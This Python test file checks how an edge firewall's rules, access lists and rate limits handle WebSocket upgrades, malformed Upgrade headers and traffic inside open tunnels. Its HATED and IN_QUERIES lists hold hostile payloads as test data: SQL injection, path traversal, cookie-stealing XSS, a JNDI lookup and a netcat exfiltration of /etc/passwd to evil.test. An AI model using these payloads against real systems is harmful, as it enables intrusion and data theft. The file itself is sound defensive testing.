"""Rules on the way to the 101, seen from clients: what is refused and how, and the tunnel that nobody inspects."""

import json
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from websockets.sync.client import connect

from holdfast.edge.firewall.counters_file import counters_file, open_counters
from holdfast.edge.firewall.values import CUSTOM, MANAGED, RATE_LIMITS
from holdfast.limits.counters import RateCounters
from holdfast.model.request import Request
from holdfast.model.rule_documents import RulesetDocument
from holdfast.model.security_event import SecurityEvent
from holdfast.model.zone_document import ZoneDocument
from holdfast.rules.managed import HOLDFAST_RULESET_ID
from tests.integration import wire
from tests.integration.certificates import Authority
from tests.integration.frames import BINARY, TEXT, Frame
from tests.integration.waiting import LIMIT_S
from tests.integration.zone_parts import ORIGIN_IP, Bench, bench
from tests.unit.edge.firewall.rules import a_limit, a_rule, a_ruleset, an_access_rule
from tests.unit.edge.origins import a_document, a_record

HOST = "chat.example.com"
KEY = "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="


class Recorded:
    """The events of an edge."""

    def __init__(self) -> None:
        self.events: list[SecurityEvent] = []

    def __call__(self, request: Request, events: Any) -> None:
        assert all(event.ray == request.ray for event in events)
        self.events.extend(events)

    def said(self) -> list[tuple[str, str, int]]:
        return [(event.rule_id, event.action, event.status) for event in self.events]


@pytest.fixture
def recorded() -> Recorded:
    return Recorded()


@pytest.fixture
def parts(tmp_path: Path, authority: Authority, recorded: Recorded) -> Iterator[Bench]:
    with bench(tmp_path, authority.issue("own.test", common_name="own")) as everything:
        start(everything, tmp_path, recorded)
        yield everything


def start(parts: Bench, directory: Path, recorded: Recorded) -> None:
    """An edge that counts in `directory`, and control's welcome."""

    def counters() -> RateCounters:
        return open_counters(counters_file(directory), log=lambda *_: None, size=1024 * 1024)

    parts.start_edge(open_counters=counters, record=recorded)
    parts.control.welcome()


def zone(*rulesets: RulesetDocument, **fields: Any) -> ZoneDocument:
    """A zone with these rules, whose names go to the origin."""
    records = (a_record("example.com", ORIGIN_IP), a_record("*.example.com", ORIGIN_IP))
    return a_document("example.com", *records, rulesets=rulesets, **fields)


def upgrade(parts: Bench, target: str = "/echo", *lines: str) -> tuple[wire.Answer, bytes]:
    with wire.connect(parts.plain) as client:
        client.send(wire.upgrade(target, *lines, host=HOST))
        answer = client.read_answer()
        return answer, b"" if answer.status == 101 else client.read_body(answer)


def ask(parts: Bench, *lines: str, method: str = "GET", target: str = "/", body: bytes = b"") -> wire.Answer:
    with wire.connect(parts.plain) as client:
        return client.request(wire.request(method, target, *lines, host=HOST, body=body))[0]


def test_a_custom_rule_refuses_an_upgrade_and_lets_others_through(parts: Bench, recorded: Recorded) -> None:
    rule = a_rule("b" * 32, expression='http.request.uri.path eq "/echo" and http.request.uri.query eq "no"')
    parts.control.full(zone(a_ruleset(rule, ident="a" * 32)))
    answer, body = upgrade(parts, "/echo?no")
    problem = json.loads(body)
    assert (answer.status, problem["error_code"], problem["rule_id"]) == (403, 1020, "b" * 32)
    assert problem["ray_id"] == answer.value("CF-Ray")
    assert answer.value("Holdfast-Refused") == (
        f'rule;id="{"b" * 32}";ruleset="{"a" * 32}";phase=http_request_firewall_custom;zone="example.com"'
    )
    assert upgrade(parts, "/echo?yes")[0].status == 101
    assert recorded.said() == [("b" * 32, "block", 403)]
    assert recorded.events[0].fields == (("http.request.uri.path", "/echo"), ("http.request.uri.query", "no"))


def test_a_challenge_is_a_block_that_says_why(parts: Bench) -> None:
    parts.control.full(zone(a_ruleset(a_rule("c", "managed_challenge"))))
    answer, body = upgrade(parts)
    assert (answer.status, answer.value("cf-error-type")) == (403, "1020")
    assert "which a WebSocket cannot solve" in json.loads(body)["detail"]
    page = ask(parts, "Accept: text/html")
    assert (page.status, page.value("Content-Type")) == (403, "text/html; charset=utf-8")


def test_a_custom_answer_reaches_the_client_as_it_is(parts: Bench) -> None:
    response = {"status_code": 410, "content_type": "application/json", "content": '{"gone":"✓"}'}
    parts.control.full(zone(a_ruleset(a_rule("c", response=response))))
    answer, body = upgrade(parts)
    assert (answer.status, answer.value("Content-Type"), body) == (
        410,
        "application/json; charset=utf-8",
        b'{"gone":"\xe2\x9c\x93"}',
    )
    assert answer.value("CF-Ray")


def test_an_access_rule_refuses_an_address(parts: Bench) -> None:
    parts.control.full(zone(access_rules=(an_access_rule("x", "block", "ip_range", "127.0.0.0/8"),)))
    answer, body = upgrade(parts)
    assert (answer.status, json.loads(body)["error_code"]) == (403, 1006)
    allowed = an_access_rule("y", "whitelist", "ip", "127.0.0.1")
    blocking = a_ruleset(a_rule("b"))
    parts.control.delta(zone(blocking, access_rules=(an_access_rule("x", "block", "ip_range", "127.0.0.0/8"), allowed)))
    assert upgrade(parts)[0].status == 101


def test_a_limit_holds_through_news_and_through_another_edge(parts: Bench, tmp_path: Path, recorded: Recorded) -> None:
    limited = zone(a_ruleset(a_limit("l", 2, period=3600), phase=RATE_LIMITS))
    parts.control.full(limited)
    assert [upgrade(parts)[0].status for _ in range(3)] == [101, 101, 429]
    answer, body = upgrade(parts)
    assert (answer.status, json.loads(body)["error_code"]) == (429, 1015)
    assert 1 <= int(answer.value("Retry-After")) <= 3600
    # Another version of the zone, then another edge on the same ports and directory, as in a release.
    parts.control.delta(zone(a_ruleset(a_rule("n", expression="false")), *limited.rulesets))
    assert upgrade(parts)[0].status == 429
    start(parts, tmp_path, recorded)
    parts.control.full(limited)
    assert [upgrade(parts)[0].status for _ in range(5)] == [429] * 5


UPGRADES_THAT_ARE_NONE = {
    "without Connection": ("GET", ["Upgrade: websocket", KEY, "Sec-WebSocket-Version: 13"], b""),
    "h2c": ("GET", ["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"], b""),
    "POST": ("POST", ["Connection: Upgrade", "Upgrade: websocket", KEY, "Sec-WebSocket-Version: 13"], b"a=1"),
    "no key": ("GET", ["Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13"], b""),
    "another version": ("GET", ["Connection: Upgrade", "Upgrade: websocket", KEY, "Sec-WebSocket-Version: 8"], b""),
    "another protocol": ("GET", ["Connection: Upgrade", "Upgrade: websocket2"], b""),
    "Connection without Upgrade": ("GET", ["Connection: Upgrade"], b""),
    "chunked": ("POST", ["Connection: Upgrade", "Upgrade: h2c", "Transfer-Encoding: chunked"], b"1\r\nx\r\n0\r\n\r\n"),
}


@pytest.mark.parametrize("kind", UPGRADES_THAT_ARE_NONE)
@pytest.mark.parametrize("phase", [CUSTOM, MANAGED])
def test_what_only_looks_like_an_upgrade_goes_round_no_rule(parts: Bench, kind: str, phase: str, token: str) -> None:
    method, lines, body = UPGRADES_THAT_ARE_NONE[kind]
    parts.control.full(zone(a_ruleset(a_rule("b"), phase=phase)))
    answer = ask(parts, *lines, method=method, target=f"/status/200?{token}", body=body)
    assert answer.status in {400, 403, 426}, "refused by the rule, or by the edge before it asked anybody"
    assert parts.plain_origin.look_up(token) is None


def raw(parts: Bench, *lines: str) -> wire.Answer:
    with wire.connect(parts.plain) as client:
        client.send("\r\n".join([*lines, "", ""]).encode())
        return client.read_answer()


HANDSHAKE = ("Connection: Upgrade", KEY, "Sec-WebSocket-Version: 13")


@pytest.mark.parametrize(
    "expression",
    [
        'http.host eq "chat.example.com"',
        'http.request.full_uri eq "http://chat.example.com/echo"',
        'starts_with(http.request.full_uri, "http://chat.example.com/")',
    ],
)
@pytest.mark.parametrize("host", ["chat.example.com", "chat.example.com.", "CHAT.Example.com."])
def test_a_final_dot_goes_round_no_rule_on_the_host(
    parts: Bench, recorded: Recorded, expression: str, host: str
) -> None:
    parts.control.full(zone(a_ruleset(a_rule("b", expression=expression))))
    for lines in (
        ["GET /echo HTTP/1.1", f"Host: {host}"],
        [f"GET http://{host}/echo HTTP/1.1", "Host: example.com"],
    ):
        assert raw(parts, *lines, "Upgrade: websocket", *HANDSHAKE).status == 403
    assert [event.host for event in recorded.events] == [HOST, HOST]


def test_a_final_dot_makes_no_second_counter(parts: Bench) -> None:
    limit = a_limit("l", 1, period=3600, characteristics=("cf.colo.id", "http.host"))
    parts.control.full(zone(a_ruleset(limit, phase=RATE_LIMITS)))
    hosts = [HOST, f"{HOST}.", HOST.upper(), f"{HOST.upper()}."]
    assert [raw(parts, "GET /status/200 HTTP/1.1", f"Host: {host}").status for host in hosts] == [200, 429, 429, 429]


@pytest.mark.parametrize(
    ("lines", "status"),
    [
        (["Upgrade: websocket"], 403),
        (["Upgrade: WebSocket"], 403),
        (["UPGRADE:  WEBSOCKET\t"], 403),
        (["Upgrade: h2c, websocket"], 400),
        (["Upgrade: websocket, h2c"], 400),
        (["Upgrade: , websocket"], 400),
        (["Upgrade: websocket,"], 400),
        (["Upgrade: websocket, websocket"], 400),
        (["Upgrade: websocket", "Upgrade: websocket"], 400),
        (["Upgrade:", "Upgrade: websocket"], 400),
        (["Upgrade: h2c", "Upgrade: websocket"], 400),
    ],
)
def test_no_way_to_ask_for_a_websocket_goes_round_a_rule(
    parts: Bench, recorded: Recorded, lines: list[str], status: int
) -> None:
    rule = a_rule("b", expression='http.request.headers["upgrade"][0] == "websocket"')
    parts.control.full(zone(a_ruleset(rule)))
    assert raw(parts, "GET /echo HTTP/1.1", f"Host: {HOST}", *lines, *HANDSHAKE).status == status
    assert len(recorded.events) == (status == 403)


def test_an_upgrade_that_the_edge_refuses_is_told_so_in_json(parts: Bench) -> None:
    parts.control.full(zone())
    with wire.connect(parts.plain) as client:
        answer, body = client.request(
            wire.request("GET", "/echo", "Upgrade: h2c, websocket", *HANDSHAKE, host=f"{HOST}:80")
        )
    problem = json.loads(body)
    assert (answer.status, answer.value("Content-Type")) == (400, "application/json; charset=utf-8")
    assert (problem["error_name"], problem["side"], problem["host"]) == ("bad_request", "client", HOST)
    assert problem["detail"] == 'Upgrade is "h2c, websocket"; expected "websocket" alone.'
    assert problem["ray_id"] == answer.value("CF-Ray")
    assert answer.value("cf-error-origin") == "client"


@pytest.mark.parametrize("kind", ["upgrade", "ordinary"])
def test_rules_see_the_host_field_that_the_origin_gets(parts: Bench, token: str, kind: str) -> None:
    rule = a_rule("b", expression='http.request.headers["host"][0] eq "shut.example.com"')
    parts.control.full(zone(a_ruleset(rule)))
    lines = ["Upgrade: websocket", *HANDSHAKE] if kind == "upgrade" else []
    target = "/echo" if kind == "upgrade" else "/dump"
    refused = raw(parts, f"GET http://shut.example.com{target} HTTP/1.1", f"Host: {HOST}", *lines)
    assert refused.status == 403
    let_in = raw(parts, f"GET http://{HOST}{target}?{token} HTTP/1.1", "Host: shut.example.com", *lines)
    assert let_in.status in {101, 200}
    assert parts.plain_origin.head(token).values("Host") == [HOST]


HATED = [
    "GET /admin?id=1'%20OR%20'1'='1 HTTP/1.1\r\nHost: chat.example.com\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
    "POST /../../etc/passwd HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 0\r\n\r\nGET / HTTP/1.1\r\n\r\n",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "../../../../etc/passwd\x00",
    "' UNION SELECT password FROM users--",
    "<script>alert(document.cookie)</script>",
    "${jndi:ldap://evil.test/a}",
    "; cat /etc/passwd | nc evil.test 1",
    "http://169.254.169.254/latest/meta-data/",
    "blocked-word",
]
# The same where rules look: in a query.
IN_QUERIES = [
    "/echo?f=../../../../etc/passwd",
    "/echo?q=%27%20UNION%20SELECT%20password%20FROM%20users--",
    "/echo?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/echo?q=$%7Bjndi:ldap://evil.test/a%7D",
    "/echo?q=blocked-word",
]


def test_nothing_in_the_tunnel_is_inspected(parts: Bench, recorded: Recorded) -> None:
    parts.control.full(
        zone(
            a_ruleset(a_rule("word", expression='http.request.full_uri contains "blocked-word"')),
            a_ruleset(a_limit("limit", 1000), phase=RATE_LIMITS),
            a_ruleset(a_rule("deploy", executes=HOLDFAST_RULESET_ID), phase=MANAGED),
        )
    )
    assert [upgrade(parts, target)[0].status for target in IN_QUERIES] == [403] * len(IN_QUERIES)
    refused = len(recorded.events)
    with (
        socket.create_connection(parts.plain) as connection,
        connect(
            f"ws://{HOST}:{parts.plain[1]}/echo", sock=connection, compression=None, open_timeout=LIMIT_S
        ) as client,
    ):
        for text in HATED:
            client.send(text)
            assert client.recv(timeout=LIMIT_S) == text
            client.send(text.encode())
            assert client.recv(timeout=LIMIT_S) == text.encode()
        everything = "\r\n".join(HATED) * 200
        client.send(everything)
        assert client.recv(timeout=LIMIT_S) == everything
    assert len(recorded.events) == refused, "nothing was recorded of it either"


def test_frames_that_look_like_requests_pass_wherever_they_are_cut(parts: Bench) -> None:
    parts.control.full(zone(a_ruleset(a_rule("word", expression='http.request.uri.path eq "/admin"'))))
    request = HATED[0].encode()
    # Unmasked in the payload's sense: with a mask of zeros the bytes on the wire are the request itself.
    frame = Frame(BINARY, request, mask=bytes(4)).encode()
    assert request in frame
    with wire.connect(parts.plain) as client:
        # Together with the head, as a smuggler would: what follows it belongs to the tunnel.
        client.send(wire.upgrade("/echo", host=HOST) + frame)
        assert client.read_answer().status == 101
        assert client.read_message() == request
        client.send_byte_by_byte(Frame(TEXT, request, mask=bytes(4)).encode())
        assert client.read_message() == request
